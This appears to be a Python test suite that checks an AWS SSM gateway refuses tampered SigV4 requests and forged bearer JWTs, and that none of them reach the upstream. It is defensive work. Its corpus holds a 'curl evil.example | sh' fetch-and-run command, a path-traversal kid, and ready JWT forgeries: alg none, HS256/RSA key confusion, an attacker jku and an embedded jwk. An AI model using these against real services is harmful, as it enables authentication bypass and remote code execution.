"""Tampered requests against the gateway, run by gateway_hardening.py: a corpus of
variants of one valid signed SendCommand (every signed header changed, the body changed
by a byte, the scope's date/region/service swapped, the date moved, SignedHeaders
duplicated or reordered, unsigned headers that change the meaning, case tricks, a cut
signature, another principal's key id, replays …) and of one valid bearer JWT (alg none,
a wrong key, expired, wrong aud/iss, HS256 keyed with the RSA public key, a kid naming
another key …). Each row names the AWS error the gateway must answer; none may reach
the upstream (tests/local-ssm counts every request it gets).
"""

import base64
import datetime
import hashlib
import hmac
import json
import sys
import time
import unittest
import uuid
from typing import NamedTuple

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from botocore_decode import decode_error
from gateway_harness import (AUDIENCE, ISSUER, JSON_CT, STAGING, LocalStack, SigningKey, b64url, http_request,
                             send_command_body)

INCOMPLETE = "IncompleteSignatureException"
INVALID = "InvalidSignatureException"
UNRECOGNIZED = "UnrecognizedClientException"
EXPIRED = "ExpiredTokenException"


class Req(NamedTuple):
    method: str
    path: str
    headers: list  # (name, value) pairs, in order; names may repeat
    body: bytes


def restart_body(comment=None):
    return send_command_body("Ops-RestartService", comment=comment or f"CHG-100 tamper {uuid.uuid4().hex[:10]}",
                             targets=STAGING, parameters={"service": ["nginx"]})


# ------------------------------------------------------------------ request surgery


def header(req, name):
    return next(v for n, v in req.headers if n.lower() == name.lower())


def set_header(req, name, value):
    """Replaces the value of `name` (every occurrence), keeping its place."""
    return req._replace(headers=[(n, value if n.lower() == name.lower() else v) for n, v in req.headers])


def drop_header(req, name):
    return req._replace(headers=[(n, v) for n, v in req.headers if n.lower() != name.lower()])


def add_header(req, name, value):
    return req._replace(headers=[*req.headers, (name, value)])


def edit_auth(req, edit):
    return set_header(req, "Authorization", edit(header(req, "Authorization")))


def edit_signed_headers(req, edit):
    """Applies `edit` to the SignedHeaders list (a list of names)."""
    def apply(auth):
        before, rest = auth.split("SignedHeaders=", 1)
        names, after = rest.split(",", 1)
        return f"{before}SignedHeaders={';'.join(edit(names.split(';')))},{after}"
    return edit_auth(req, apply)


def edit_scope(req, index, value):
    """Replaces part `index` of Credential=AKID/date/region/service/terminator."""
    def apply(auth):
        before, rest = auth.split("Credential=", 1)
        credential, after = rest.split(",", 1)
        parts = credential.split("/")
        parts[index] = value
        return f"{before}Credential={'/'.join(parts)},{after}"
    return edit_auth(req, apply)


def edit_signature(req, edit):
    return edit_auth(req, lambda a: a.rsplit("Signature=", 1)[0] + "Signature=" + edit(a.rsplit("Signature=", 1)[1]))


def flip_byte(body: bytes, index: int) -> bytes:
    return body[:index] + bytes([body[index] ^ 0x01]) + body[index + 1:]


def replace_once(body: bytes, old: bytes, new: bytes) -> bytes:
    assert old in body, (old, body)
    return body.replace(old, new, 1)


# ------------------------------------------------------------------ the SigV4 corpus


class Corpus:
    """Builds fresh valid requests (each with its own signature) for the table's rows."""

    def __init__(self, stack):
        self.stack = stack

    def signed(self, who="alice", body=None, *, at=None, extra=None, service="ssm", region=None, akid=None,
               secret=None, omit=()):
        """A SendCommand signed by botocore; `omit`: headers left out when signing, then
        added (so they are there, unsigned)."""
        body = body if body is not None else restart_body()
        unsigned = {"Content-Type": JSON_CT, "X-Amz-Target": "AmazonSSM.SendCommand"}
        headers = self.stack.sign("SendCommand", body, who, akid=akid, secret=secret, at=at, service=service,
                                  region=region, extra={**(extra or {}), **{name: None for name in omit}})
        return Req("POST", "/", [*headers.items(), *((name, unsigned[name]) for name in omit)], body)

    def now(self, delta_s=0):
        return datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None) + datetime.timedelta(seconds=delta_s)


def sigv4_cases(c: Corpus, keys):
    """(name, request, expected code, message fragment)."""
    bob_akid, root_akid = keys["bob"][0], keys["root"][0]
    alice_akid, alice_secret = keys["alice"][0], keys["alice"][1]
    s = c.signed
    yesterday = (c.now(-86400)).strftime("%Y%m%d")
    other_body = send_command_body("AWS-RunShellScript", comment="INC-666 swapped", instance_ids=["i-0123456789abcdef0"],
                                   parameters={"commands": ["curl evil.example | sh"]})
    wrong_sha = hashlib.sha256(b"something else").hexdigest()
    return [
        # Every signed header changed after signing.
        ("signed content-type changed", set_header(s(), "Content-Type", "application/json"), INVALID, "does not match"),
        ("signed x-amz-target changed to ListCommands",
         set_header(s(), "X-Amz-Target", "AmazonSSM.ListCommands"), INVALID, "does not match"),
        ("signed x-amz-target changed to CancelCommand",
         set_header(s(), "X-Amz-Target", "AmazonSSM.CancelCommand"), INVALID, None),
        ("signed x-amz-target lower-cased", set_header(s(), "X-Amz-Target", "amazonssm.sendcommand"), INVALID, None),
        ("signed content-type upper-cased", set_header(s(), "Content-Type", JSON_CT.upper()), INVALID, None),
        ("signed x-amz-date moved one second",
         (lambda r: set_header(r, "X-Amz-Date", (datetime.datetime.strptime(header(r, "X-Amz-Date"), "%Y%m%dT%H%M%SZ")
                                                 + datetime.timedelta(seconds=1)).strftime("%Y%m%dT%H%M%SZ")))(s()),
         INVALID, None),
        ("signed amz-sdk-invocation-id changed", set_header(s(), "amz-sdk-invocation-id", str(uuid.uuid4())), INVALID,
         None),
        ("signed host changed", add_header(s(), "Host", "ssm.us-east-1.amazonaws.com"), INVALID, None),
        # A signed header left out.
        ("signed content-type removed", drop_header(s(), "Content-Type"), INCOMPLETE, "content-type"),
        ("signed x-amz-target removed", drop_header(s(), "X-Amz-Target"), INCOMPLETE, "x-amz-target"),
        ("signed amz-sdk-invocation-id removed", drop_header(s(), "amz-sdk-invocation-id"), INCOMPLETE, None),
        ("x-amz-date removed", drop_header(s(), "X-Amz-Date"), INCOMPLETE, None),
        # The body changed by one byte (or a little more).
        ("body: one byte of the comment flipped",
         (lambda r: r._replace(body=replace_once(r.body, b"CHG-100", b"CHG-101")))(s()), INVALID, None),
        ("body: nginx -> nginy", (lambda r: r._replace(body=replace_once(r.body, b"nginx", b"nginy")))(s()),
         INVALID, None),
        ("body: staging -> stagine", (lambda r: r._replace(body=replace_once(r.body, b"staging", b"stagine")))(s()),
         INVALID, None),
        ("body: first byte flipped", (lambda r: r._replace(body=flip_byte(r.body, 0)))(s()), INVALID, None),
        ("body: last byte flipped", (lambda r: r._replace(body=flip_byte(r.body, len(r.body) - 1)))(s()), INVALID,
         None),
        ("body: a trailing newline", (lambda r: r._replace(body=r.body + b"\n"))(s()), INVALID, None),
        ("body: a leading space", (lambda r: r._replace(body=b" " + r.body))(s()), INVALID, None),
        ("body: one byte cut", (lambda r: r._replace(body=r.body[:-1]))(s()), INVALID, None),
        ("body: empty", (lambda r: r._replace(body=b""))(s()), INVALID, None),
        ("body: another command under the same signature", s()._replace(body=other_body), INVALID, None),
        # The credential scope.
        ("scope date is yesterday", edit_scope(s(), 1, yesterday), INVALID, None),
        ("scope region edited to us-west-2", edit_scope(s(), 2, "us-west-2"), INVALID, None),
        ("scope region upper-cased", edit_scope(s(), 2, c.stack.region.upper()), INVALID, None),
        ("signed for us-west-2", s(region="us-west-2"), INVALID, None),
        ("signed for service ec2", s(service="ec2"), INVALID, None),
        ("signed for service execute-api", s(service="execute-api"), INVALID, None),
        ("scope service edited to SSM", edit_scope(s(), 3, "SSM"), INVALID, None),
        ("scope terminator aws4_requesx", edit_scope(s(), 4, "aws4_requesx"), INVALID, None),
        # The date.
        ("signed 6 minutes ago", s(at=c.now(-360)), INVALID, "Signature expired"),
        ("signed 6 minutes ahead", s(at=c.now(360)), INVALID, "Signature not yet current"),
        ("signed a day ago", s(at=c.now(-86400)), INVALID, "Signature expired"),
        ("x-amz-date not an amz-date", set_header(s(), "X-Amz-Date", "2026-11-26T07:38:13Z"), INCOMPLETE, None),
        ("x-amz-date twice", (lambda r: add_header(r, "X-Amz-Date", header(r, "X-Amz-Date")))(s()), INCOMPLETE,
         None),
        # SignedHeaders.
        ("SignedHeaders with a name twice", edit_signed_headers(s(), lambda n: sorted(n + [n[0]])), INCOMPLETE,
         "SignedHeaders"),
        ("SignedHeaders reordered", edit_signed_headers(s(), lambda n: list(reversed(n))), INCOMPLETE,
         "SignedHeaders"),
        ("SignedHeaders with an upper-case name",
         edit_signed_headers(s(), lambda n: [x.title() if x == "content-type" else x for x in n]), INCOMPLETE, None),
        ("SignedHeaders without host", edit_signed_headers(s(), lambda n: [x for x in n if x != "host"]), INCOMPLETE,
         None),
        ("SignedHeaders without x-amz-date",
         edit_signed_headers(s(), lambda n: [x for x in n if x != "x-amz-date"]), INCOMPLETE, None),
        ("SignedHeaders naming an absent header",
         edit_signed_headers(s(), lambda n: sorted(n + ["x-evil"])), INCOMPLETE, None),
        ("x-amz-target present but not signed", s(omit=("X-Amz-Target",)), INCOMPLETE, "x-amz-target"),
        ("content-type present but not signed", s(omit=("Content-Type",)), INCOMPLETE, "content-type"),
        # Unsigned headers that change the meaning. workerd joins a repeated header into
        # one value ("A, B"), so the core's duplicate-header check does not see two: the
        # signature over the joined value does not match.
        ("a second X-Amz-Target", add_header(s(), "X-Amz-Target", "AmazonSSM.ListCommands"), INVALID, None),
        ("a second X-Amz-Target, lower-case name",
         add_header(s(), "x-amz-target", "AmazonSSM.CancelCommand"), INVALID, None),
        ("a second Content-Type", add_header(s(), "Content-Type", "text/plain"), INVALID, None),
        ("an unsigned X-Amz-Security-Token", add_header(s(), "X-Amz-Security-Token", "FwoGZXIvYXdzE"), INCOMPLETE,
         "x-amz-security-token"),
        ("an unsigned X-Amz-Content-Sha256", add_header(s(), "X-Amz-Content-Sha256", wrong_sha), INCOMPLETE, None),
        ("a signed X-Amz-Content-Sha256 of another body", s(extra={"X-Amz-Content-Sha256": wrong_sha}), INVALID,
         None),
        ("a second Authorization (a bearer token)", add_header(s(), "Authorization", "Bearer abc.def.ghi"), INCOMPLETE,
         None),
        # The signature and the Authorization header.
        ("signature cut to 63 digits", edit_signature(s(), lambda sig: sig[:-1]), INVALID, None),
        ("signature with one more digit", edit_signature(s(), lambda sig: sig + "0"), INVALID, None),
        ("signature in upper case", edit_signature(s(), str.upper), INVALID, None),
        ("signature with one digit changed",
         edit_signature(s(), lambda sig: sig[:10] + ("0" if sig[10] != "0" else "1") + sig[11:]), INVALID, None),
        ("signature all zeros", edit_signature(s(), lambda sig: "0" * 64), INVALID, None),
        ("signature empty", edit_signature(s(), lambda sig: ""), INVALID, None),
        ("algorithm AWS4-HMAC-SHA512", edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "AWS4-HMAC-SHA512")),
         INCOMPLETE, None),
        ("algorithm SigV4a (AWS4-ECDSA-P256-SHA256)",
         edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "AWS4-ECDSA-P256-SHA256")), INCOMPLETE, None),
        ("algorithm in lower case", edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "aws4-hmac-sha256")),
         UNRECOGNIZED, None),
        ("Credential given twice",
         edit_auth(s(), lambda a: a.replace(", SignedHeaders=", ", Credential=" + a.split("Credential=")[1].split(",")[0]
                                            + ", SignedHeaders=")), INCOMPLETE, None),
        ("Authorization without SignedHeaders",
         edit_auth(s(), lambda a: a.split(" SignedHeaders=")[0] + " " + "Signature=" + a.rsplit("Signature=")[1]),
         INCOMPLETE, None),
        # Whose key.
        ("bob's key id on alice's signature", edit_scope(s(), 0, bob_akid), INVALID, None),
        ("root's key id on alice's signature", edit_scope(s(), 0, root_akid), INVALID, None),
        ("an unknown key id", edit_scope(s(), 0, "GWKEYNOBODY000000000"), UNRECOGNIZED, "security token"),
        ("the key id in lower case", edit_scope(s(), 0, alice_akid.lower()), UNRECOGNIZED, None),
        ("alice's key id, a wrong secret", s(akid=alice_akid, secret=alice_secret[:-1] + "x", who=None), INVALID,
         None),
        # Method and path (covered by the signature).
        ("method GET", s()._replace(method="GET"), INVALID, None),
        ("method PUT", s()._replace(method="PUT"), INVALID, None),
        ("a query string added", s()._replace(path="/?Action=SendCommand"), INVALID, None),
        ("another path", s()._replace(path="/admin"), INVALID, None),
        # An old request, captured and sent again.
        ("a request captured 10 minutes ago", s(at=c.now(-600)), INVALID, "Signature expired"),
    ]


# ------------------------------------------------------------------ the JWT corpus


def raw_token(header, claims, signature=b""):
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}.{b64url(signature)}"


def claims(sub="carol", **overrides):
    now = int(time.time())
    base = {"iss": ISSUER, "aud": AUDIENCE, "sub": sub, "groups": ["on-call"], "iat": now, "nbf": now - 5,
            "exp": now + 300}
    base.update(overrides)
    return {k: v for k, v in base.items() if v is not None}


def hs256(key: bytes, header, payload):
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}"
    return f"{signing_input}.{b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())}"


def resign_payload(token, **changes):
    """The token with its claims changed and its old signature kept."""
    head, payload, sig = token.split(".")
    decoded = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    decoded.update(changes)
    return f"{head}.{b64url(json.dumps(decoded).encode())}.{sig}"


def jwt_cases(stack):
    """(name, headers for the request, expected code)."""
    rsa_key, ec_key = stack.rsa_key, stack.ec_key
    attacker = SigningKey("RS256", rsa_key.kid)  # claims the published kid
    attacker_ec = SigningKey("ES256", "attacker-ec")
    rsa_pem = rsa_key.key.public_key().public_bytes(serialization.Encoding.PEM,
                                                    serialization.PublicFormat.SubjectPublicKeyInfo)
    good = rsa_key.token("carol", ["on-call"])
    other = ec_key.token("dave", ["admins"])
    ec_good = ec_key.token("carol", ["on-call"])
    raw_sig = base64.urlsafe_b64decode(ec_good.split(".")[2] + "==")
    der = encode_dss_signature(int.from_bytes(raw_sig[:32], "big"), int.from_bytes(raw_sig[32:], "big"))
    bearer = lambda t: [("Authorization", f"Bearer {t}")]  # noqa: E731
    return [
        ("alg none, no signature", bearer(raw_token({"alg": "none", "typ": "JWT"}, claims())), UNRECOGNIZED),
        ("alg none with the kid of a published key",
         bearer(raw_token({"alg": "none", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("alg None, capitalised", bearer(raw_token({"alg": "None", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 keyed with the RSA public key (PEM): the confusion attack",
         bearer(hs256(rsa_pem, {"alg": "HS256", "typ": "JWT", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 keyed with the RSA modulus",
         bearer(hs256(rsa_key.jwk()["n"].encode(), {"alg": "HS256", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 without a kid", bearer(hs256(rsa_pem, {"alg": "HS256"}, claims())), UNRECOGNIZED),
        ("signed by another key under the published kid", bearer(attacker.token("carol", ["on-call"])), UNRECOGNIZED),
        ("signed by another key, no kid",
         bearer(attacker.token("carol", ["on-call"], header={"kid": None})), UNRECOGNIZED),
        ("kid of the EC key, RS256 signed by the RSA key",
         bearer(rsa_key.token("carol", ["on-call"], kid=ec_key.kid)), UNRECOGNIZED),
        ("kid of the RSA key, ES256 signed by the EC key",
         bearer(ec_key.token("carol", ["on-call"], kid=rsa_key.kid)), UNRECOGNIZED),
        ("an unknown kid", bearer(attacker_ec.token("carol", ["on-call"])), UNRECOGNIZED),
        ("a path as kid", bearer(attacker_ec.token("carol", ["on-call"], kid="../../../dev/null")), UNRECOGNIZED),
        ("jku pointing to the attacker's key set",
         bearer(attacker_ec.token("carol", ["on-call"], header={"jku": "https://evil.example/jwks.json"})),
         UNRECOGNIZED),
        ("the attacker's key embedded (jwk header) under the published kid",
         bearer(attacker.token("carol", ["on-call"], header={"jwk": attacker.jwk()})), UNRECOGNIZED),
        ("expired", bearer(rsa_key.token("carol", ["on-call"], ttl=-600)), EXPIRED),
        ("expired a year ago", bearer(rsa_key.token("carol", ["on-call"], ttl=-365 * 86400)), EXPIRED),
        ("not valid for an hour", bearer(rsa_key.token("carol", ["on-call"], nbf=int(time.time()) + 3600)),
         UNRECOGNIZED),
        ("wrong audience", bearer(rsa_key.token("carol", ["on-call"], aud="someone-else")), UNRECOGNIZED),
        ("audience list without ours", bearer(rsa_key.token("carol", ["on-call"], aud=["a", "b"])), UNRECOGNIZED),
        ("wrong issuer", bearer(rsa_key.token("carol", ["on-call"], iss="https://evil.example")), UNRECOGNIZED),
        ("issuer with a trailing slash", bearer(rsa_key.token("carol", ["on-call"], iss=ISSUER + "/")), UNRECOGNIZED),
        ("no exp", bearer(rsa_key.token("carol", ["on-call"], exp=None)), UNRECOGNIZED),
        ("exp as a string", bearer(rsa_key.token("carol", ["on-call"], exp="99999999999")), UNRECOGNIZED),
        ("no iss", bearer(rsa_key.token("carol", ["on-call"], iss=None)), UNRECOGNIZED),
        ("no aud", bearer(rsa_key.token("carol", ["on-call"], aud=None)), UNRECOGNIZED),
        ("no sub", bearer(rsa_key.token(None, ["on-call"])), UNRECOGNIZED),
        ("groups as a number", bearer(rsa_key.token("carol", 7)), UNRECOGNIZED),
        ("groups raised to admins after signing", bearer(resign_payload(good, groups=["admins"])), UNRECOGNIZED),
        ("sub changed after signing", bearer(resign_payload(good, sub="root")), UNRECOGNIZED),
        ("exp extended after signing", bearer(resign_payload(good, exp=4102444800)), UNRECOGNIZED),
        ("signature stripped", bearer(good.rsplit(".", 1)[0] + "."), UNRECOGNIZED),
        ("signature of another token", bearer(good.rsplit(".", 1)[0] + "." + other.rsplit(".", 1)[1]), UNRECOGNIZED),
        ("ES256 signature DER-encoded", bearer(ec_good.rsplit(".", 1)[0] + "." + b64url(der)), UNRECOGNIZED),
        ("token cut short", bearer(good[:-10]), UNRECOGNIZED),
        ("two parts only", bearer(".".join(good.split(".")[:2])), UNRECOGNIZED),
        ("alg PS256", bearer(rsa_key.token("carol", ["on-call"], alg="PS256")), UNRECOGNIZED),
        ("alg RS512", bearer(rsa_key.token("carol", ["on-call"], alg="RS512")), UNRECOGNIZED),
        ("an unknown critical header parameter",
         bearer(rsa_key.token("carol", ["on-call"], header={"crit": ["x-ssm-edge-unknown"],
                                                            "x-ssm-edge-unknown": True})), UNRECOGNIZED),
        ("two tokens in one header", bearer(f"{good} {other}"), UNRECOGNIZED),
        ("a bearer token and a SigV4 Authorization",
         [("Authorization", f"Bearer {good}"),
          ("Authorization", "AWS4-HMAC-SHA256 Credential=x/20260101/us-east-1/ssm/aws4_request, "
                            "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64)], UNRECOGNIZED),
        ("Basic instead of Bearer", [("Authorization", "Basic " + base64.b64encode(b"carol:pw").decode())],
         UNRECOGNIZED),
        ("a bad Cf-Access-Jwt-Assertion", [("Cf-Access-Jwt-Assertion", attacker.token("carol", ["on-call"]))],
         UNRECOGNIZED),
    ]


class TamperedRequests(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.stack = LocalStack.get()
        cls.corpus = Corpus(cls.stack)

    def send(self, req):
        for name, value in req.headers:  # every credential sent is a secret: never logged
            if name.lower() in ("authorization", "cf-access-jwt-assertion"):
                self.stack.sentinels[f"credential #{len(self.stack.sentinels)}"] = value.split(" ", 1)[-1]
        return http_request(req.method, self.stack.gw.url + req.path, req.headers, req.body)

    def assert_refused(self, reply, code, message=None, replay=False):
        self.assertEqual((reply.status, reply.code), (400, code), reply.body[:300])
        self.assertTrue(reply.request_id)
        decoded = decode_error("SendCommand", reply.status, list(reply.headers.items()), reply.body)
        self.assertEqual(decoded["code"], code, "botocore decodes the same error")
        if message:
            self.assertIn(message, reply.message)
        line = self.stack.gw.audit_for(reply.request_id)
        self.assertEqual(line["decision"], "unauthenticated", line)
        if not replay:  # a replay's signature is valid: its principal is known, and logged
            self.assertNotIn("principal", line)

    def test_the_untampered_request_runs_and_its_replays_are_refused(self):
        """The corpus's base request is valid (so each row refuses for its one change),
        and the very same bytes sent again — alone, with an Idempotency-Key, with an
        extra header — are replays."""
        req = self.corpus.signed()
        comment = json.loads(req.body)["Comment"]
        before = self.stack.ssm.stats()
        first = self.send(req)
        self.assertEqual(first.status, 200, first.body[:300])
        self.assertEqual(self.stack.executions(comment), 1)
        for replay in (req, add_header(req, "Idempotency-Key", f"k-{uuid.uuid4()}"),
                       add_header(req, "X-Forwarded-For", "10.0.0.1"), add_header(req, "Origin", "http://x.example")):
            with self.subTest(headers=[n for n, _ in replay.headers][-1]):
                reply = self.send(replay)
                if ("Origin", "http://x.example") in replay.headers:
                    # No CORS origins are configured here: refused before identity.
                    self.assertEqual((reply.status, reply.code), (400, "AccessDeniedException"))
                    continue
                self.assert_refused(reply, INVALID, "already used", replay=True)
        self.assertEqual(self.stack.requests_since(before, "SendCommand"), 1)
        self.assertEqual(self.stack.executions(comment), 1)

    def test_tampered_sigv4_requests_are_refused(self):
        cases = sigv4_cases(self.corpus, self.stack.keys)
        self.assertGreaterEqual(len(cases), 50)
        self.assertEqual(len({name for name, *_ in cases}), len(cases), "row names are unique")
        before = self.stack.ssm.stats()
        for name, req, code, message in cases:
            with self.subTest(name):
                self.assert_refused(self.send(req), code, message)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")
        print(f"\n    ({len(cases)} tampered SigV4 requests refused, none reached the upstream)", file=sys.stderr)

    def test_bad_bearer_tokens_are_refused(self):
        cases = jwt_cases(self.stack)
        self.assertEqual(len({name for name, *_ in cases}), len(cases), "row names are unique")
        body = restart_body()
        before = self.stack.ssm.stats()
        for name, auth, code in cases:
            with self.subTest(name):
                headers = [("Content-Type", JSON_CT), ("X-Amz-Target", "AmazonSSM.SendCommand"), *auth]
                self.assert_refused(self.send(Req("POST", "/", headers, body)), code)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")
        print(f"\n    ({len(cases)} bad bearer tokens refused, none reached the upstream)", file=sys.stderr)
        # The base token itself is accepted (each row refuses for its one change).
        ok = self.stack.bearer_post("SendCommand", restart_body("CHG-101 jwt base"), self.stack.rsa_key.token(
            "carol", ["on-call"]))
        self.assertEqual(ok.status, 200, ok.body[:300])
